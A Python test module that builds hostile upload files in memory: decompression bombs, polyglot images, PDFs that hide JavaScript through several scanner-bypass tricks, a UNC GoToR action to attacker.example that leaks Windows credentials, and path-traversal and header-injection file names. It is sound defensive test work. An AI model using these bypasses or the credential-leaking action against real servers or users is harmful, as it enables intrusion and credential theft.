"""The upload corpus: files built in memory (stdlib only) that a careless server would
store, serve or choke on, and the valid files that show a call works."""
import struct
import zlib

# The limits of domain/src/uploads/mod.rs: a picture field takes 5 MB, a document 10 MB.
PICTURE_MAX = 5 * 1024 * 1024
DOCUMENT_MAX = 10 * 1024 * 1024
SCRIPT = b"<script>alert(1)</script>"
HTML = b"<html><body><img src=x onerror=alert(1)>" + SCRIPT + b"</body></html>"


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=16, height=12, claimed=None, extra=b""):
    """A real RGB PNG; `claimed` puts another size in the header than the pixels have (a
    decompression bomb: tiny on disk, huge once decoded); `extra` adds chunks before IEND."""
    rows = b"".join(b"\0" + bytes(v for x in range(width) for v in (x * 15 % 256, y * 20 % 256, 90))
                    for y in range(height))
    w, h = claimed or (width, height)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + extra + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def jpeg_bomb(edge=65500):
    """Start marker, a frame header claiming edge × edge pixels, end marker: nothing else."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, edge, edge, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    return b"\xff\xd8" + sof + b"\xff\xd9"


def webp_bomb(edge=16384):
    """An extended WebP whose canvas claims edge × edge pixels, with no image data."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (edge - 1).to_bytes(3, "little") * 2
    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x


def pdf(catalog_extra=b"", page_extra=b""):
    """A minimal one-page PDF, ending with %%EOF as a complete file does."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b">>"]
    out = b"%PDF-1.4\n"
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PE = b"MZ\x90\x00\x03" + b"\x00" * 55 + b"\x40\x00\x00\x00PE\x00\x00\x4c\x01" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
JPEG_HTML = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + HTML + b"\xff\xd9"
PDF_JS = pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")
# The same with the names spelt in #xx escapes, which viewers decode.
PDF_JS_ESCAPED = pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")
PDF_LAUNCH = pdf(b"/OpenAction << /S /Launch /F (calc.exe) >> ")


def pdf_packed_js():
    """A PDF 1.5 whose script action sits in a compressed object stream, out of sight of
    a scan of the file's own bytes."""
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = (b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
              + packed + b"\nendstream\nendobj\n")
    return pdf(b"/OpenAction 4 0 R ").replace(b"xref\n", stream + b"xref\n", 1)


def xref_pdf(bodies, indexed):
    """A PDF of `bodies` ((number, bytes) written in order) whose xref gives each number of
    `indexed` the offset of its first `N 0 obj` in the file, wherever that is (also inside
    another object's stream data)."""
    out = b"%PDF-1.5\n"
    for n, body in bodies:
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    size = max(indexed) + 1
    xref = len(out)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        at = out.find(b"%d 0 obj" % n) if n in indexed else -1
        table += b"%010d 00000 n \n" % at if at >= 0 else b"0000000000 65535 f \n"
    return out + table + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)


PAGES = [(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
         (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")]
JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_predicted_js():
    """A known bypass: the script's object in an object stream whose data is
    Flate-compressed under a PNG predictor (rows of 16 bytes, each "Up" from the last), so
    neither the file nor the plainly inflated stream spells a name; found through an xref
    stream."""
    members = b"4 0 " + JS_ACTION + b" "
    header = b"4 0 "
    data = header + members[len(header):]
    data += b" " * (-len(data) % 16)
    rows, previous = b"", bytes(16)
    for i in range(0, len(data), 16):
        row = data[i:i + 16]
        rows += b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous))
        previous = row
    packed = zlib.compress(rows)
    objstm = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 16 >> "
              b"/Length %d >>\nstream\n" % (len(header), len(packed)) + packed + b"\nendstream")
    out = b"%PDF-1.5\n"
    offsets = {}
    for n, body in [(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")] + PAGES + [(10, objstm)]:
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    rows = [bytes([0, 0, 0, 0, 255])] * 12
    for n, at in offsets.items():
        rows[n] = bytes([1]) + at.to_bytes(3, "big") + b"\0"
    rows[4] = bytes([2, 0, 0, 10, 0])
    xref_at = len(out)
    rows[11] = bytes([1]) + xref_at.to_bytes(3, "big") + b"\0"
    table = zlib.compress(b"".join(rows))
    out += (b"11 0 obj\n<< /Type /XRef /Size 12 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(table) + table + b"\nendstream\nendobj\n")
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


def pdf_picture_js():
    """Another known bypass: the script's object inside a JPEG picture stream's data,
    where a scan that skips pictures does not look, and the xref pointing at it."""
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\n4 0 obj\n" + JS_ACTION + b"\nendobj\n\xff\xd9"
    picture = (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length %d >>\nstream\n"
               % len(jpeg) + jpeg + b"\nendstream")
    bodies = [(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")] + PAGES + [(5, picture)]
    return xref_pdf(bodies, [1, 2, 3, 4, 5])


# The "BadPDF" credential leak: opening the file makes Windows reach for a share.
PDF_GOTOR_UNC = pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> ")
PDF_URI_FILE = pdf(b"/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> ")


def pdf_deep_js(depth, arrays=False):
    """The script action with one more key holding `depth` nested dictionaries (or arrays):
    deeper than a parser reads, so a checker that skips what it cannot parse passes it."""
    opening, closing = (b"[", b"]") if arrays else (b"<< /A ", b" >>")
    deep = opening * depth + b" 0 " + closing * depth
    return pdf(b"/OpenAction << /S /JavaScript /Deep " + deep + b" /JS (app.alert\\(1\\)) >> ")


def pdf_link(target):
    """A page whose link annotation opens `target`."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (" + target + b") >> >>"
    return pdf(page_extra=b"/Annots [" + link + b"] ")


def png_profile_bomb(inflated=1 << 30, block=1 << 20):
    """A PNG whose iCCP colour profile inflates to `inflated` zero bytes from about a
    thousandth of that: one block of zeros deflated once, its output (the same for every
    block after the first) repeated, with zlib's checksum of that many zeros."""
    deflate = zlib.compressobj(9)
    zeros = bytes(block)
    first = deflate.compress(zeros) + deflate.flush(zlib.Z_SYNC_FLUSH)
    following = deflate.compress(zeros) + deflate.flush(zlib.Z_SYNC_FLUSH)
    last = deflate.flush()[:-4]
    adler = ((inflated % 65521) << 16) | 1
    stream = first + following * (inflated // block - 1) + last + struct.pack(">I", adler)
    plain = png()
    # After the signature and the header chunk, where cameras write it.
    return plain[:33] + chunk(b"iCCP", b"icc\0\0" + stream) + plain[33:]


# HTML between the header and the end marker: no object, no trailer.
PDF_HTML_ONLY = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"


def refused(document):
    """(label, file name, bytes) entries that must each get a 4xx. A document field also
    takes PDFs, so a PDF is only hostile there when it is one."""
    limit = DOCUMENT_MAX if document else PICTURE_MAX
    entries = [
        ("text named .jpg", "photo.jpg", b"just some text, not a picture\n"),
        ("HTML named .jpg", "photo.jpg", HTML),
        ("PE header named .png", "setup.png", PE),
        ("ELF header named .png", "a.out.png", ELF),
        ("SVG with script", "logo.svg", SVG),
        ("SVG with script named .png", "logo.png", SVG),
        ("GIF header + HTML", "anim.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + HTML),
        ("GIF header + HTML named .jpg", "anim.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + HTML),
        ("JPEG header + HTML", "photo.jpg", JPEG_HTML),
        ("PNG + appended HTML", "photo.png", png() + HTML),
        ("PNG cut short", "photo.png", png()[:60]),
        ("PNG named .pdf", "scan.pdf", png()),
        ("PNG bomb 100000x100000", "bomb.png", png(claimed=(100000, 100000))),
        ("PNG bomb 12000x12000", "bomb.png", png(claimed=(12000, 12000))),
        ("JPEG bomb 65500x65500", "bomb.jpg", jpeg_bomb()),
        ("WebP bomb 16384x16384", "bomb.webp", webp_bomb()),
        ("oversized (limit + 1 byte)", "big.png", png() + b"\0" * (limit + 1 - len(png()))),
        ("empty file", "empty.png", b""),
    ]
    if document:
        entries += [("PDF with JavaScript", "scan.pdf", PDF_JS),
                    ("PDF with JavaScript in escaped names", "scan.pdf", PDF_JS_ESCAPED),
                    ("PDF with JavaScript in an object stream", "scan.pdf", pdf_packed_js()),
                    ("PDF with a launch action", "scan.pdf", PDF_LAUNCH),
                    ("PDF with JavaScript in a PNG-predicted object stream", "scan.pdf", pdf_predicted_js()),
                    ("PDF with JavaScript in a picture stream's data", "scan.pdf", pdf_picture_js()),
                    ("PDF with GoToR to a UNC path", "scan.pdf", PDF_GOTOR_UNC),
                    ("PDF with a file: URI", "scan.pdf", PDF_URI_FILE),
                    ("PDF with JavaScript behind 8000 nested dictionaries", "scan.pdf", pdf_deep_js(8000)),
                    ("PDF with JavaScript behind 40000 nested arrays", "scan.pdf", pdf_deep_js(40000, arrays=True)),
                    ("PDF with a javascript: link", "scan.pdf", pdf_link(b"javascript:app.alert\\(1\\)")),
                    ("PDF with a vbscript: link", "scan.pdf", pdf_link(b"vbscript:msgbox")),
                    ("PDF with a data: link", "scan.pdf", pdf_link(b"data:text/html,<script>alert(1)</script>")),
                    ("PDF opening a javascript: URI", "scan.pdf",
                     pdf(b"/OpenAction << /S /URI /URI (JavaScript:app.alert\\(1\\)) >> ")),
                    ("HTML between %PDF and %%EOF", "scan.pdf", PDF_HTML_ONLY),
                    ("PDF + appended HTML", "scan.pdf", pdf() + HTML),
                    ("PDF named .png", "scan.png", pdf())]
    else:
        entries += [("PDF in a picture field", "photo.pdf", pdf())]
    return entries


# File names that try to leave the upload folder or break the part's headers. The
# content is valid, so a server that ignores names stores the file under its own name.
HOSTILE_NAMES = [
    # (label, name, what of it an answer must not repeat)
    ("traversal ../../", "../../hostile-gate-escape.png", b"hostile-gate-escape"),
    ("traversal ../../etc/passwd", "../../../../../../etc/passwd.png", b"passwd"),
    ("traversal ..\\..\\", "..\\..\\hostile-gate-escape.png", b"hostile-gate-escape"),
    ("absolute path", "/tmp/hostile-gate-absolute.png", b"hostile-gate-absolute"),
    ("NUL in name", "hostile\x00gate.png", b"u0000gate"),
    ("newline in name", "hostile\r\nX-Injected: 1.png", b"X-Injected"),
    ("very long name", "h" * 4000 + ".png", b"h" * 100),
    ("right-to-left override", "hostile\u202egnp.exe.png", b"gnp.exe"),
]


def valid(document):
    """A file the field takes, and its name."""
    return ("valid.pdf", pdf()) if document else ("valid.png", png())


def tagged_png():
    """A valid PNG carrying HTML in a text chunk: accepted, but stored without it."""
    return png(extra=chunk(b"tEXt", b"Comment\0" + HTML))
